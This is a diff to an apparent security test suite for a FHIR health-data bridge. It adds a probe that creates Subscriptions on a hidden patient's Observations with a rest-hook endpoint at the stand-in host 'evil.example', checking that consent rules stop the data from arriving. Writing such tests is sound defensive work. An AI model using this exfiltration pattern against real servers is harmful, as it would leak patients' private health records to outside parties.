@@ -20,6 +20,7 @@ from lxml import etree
 from bridge.consent.asked import Asked, Way
 from bridge.consent.permit import DeliveryPermit
 from bridge.fhir.sampled import PROFILE
+from bridge.fhir.subscriptions import FILTER, TOPIC
 from bridge.period import HOUR
 from bridge.reading import Stream
 from tests.door.who import Attacker
@@ -329,18 +330,48 @@ def exported(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
     return [told, *members, *answers]
 
 
+def subscribed(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
+    """A subscription about her, with every filter that might open something, and what is said of all there are."""
+    wide = (
+        f"Observation?patient=Patient/{hidden.person}",
+        f"Observation?patient={hidden.person}&date=ge1990",
+    )
+    bodies = [
+        {
+            "resourceType": "Subscription",
+            "status": "requested",
+            "reason": "x",
+            "criteria": TOPIC,
+            "_criteria": {"extension": [{"url": FILTER, "valueString": each}]},
+            "channel": {
+                "type": "rest-hook",
+                "endpoint": "https://evil.example/",
+                "payload": "application/fhir+json",
+            },
+        }
+        for each in wide
+    ]
+    made = [ask("POST", "Subscription", json=each) for each in bodies]
+    asked = (
+        "Subscription",
+        "Subscription/$status",
+        f"Subscription/{hidden.person}/$events",
+        "Subscription/x",
+    )
+    return [*made, *(ask("GET", each) for each in asked)]
+
+
 Through: Final[Mapping[str, Callable[[Ask, Hidden], list[httpx.Response]]]] = {
     each.__name__: each
     for each in (
         searched, posted, paged, read, remembered, included, evidenced, chained, newest, summaries, reported,
-        everything, chunks,
-        batched, submitted, in_xml, compressed, exported,
+        everything, chunks, batched, submitted, in_xml, compressed, exported, subscribed,
     )
 }  # fmt: skip
 """Over HTTP, by name."""
 SYSTEMS: Final = frozenset({"exported"})
 """Ways that are for a system's token alone: whoever comes with a person's is refused."""
-NO_READINGS: Final = frozenset({"chained", "evidenced", "submitted"})
+NO_READINGS: Final = frozenset({"chained", "evidenced", "submitted", "subscribed"})
 """Ways by which no Observation arrives, whoever asks."""
 
 
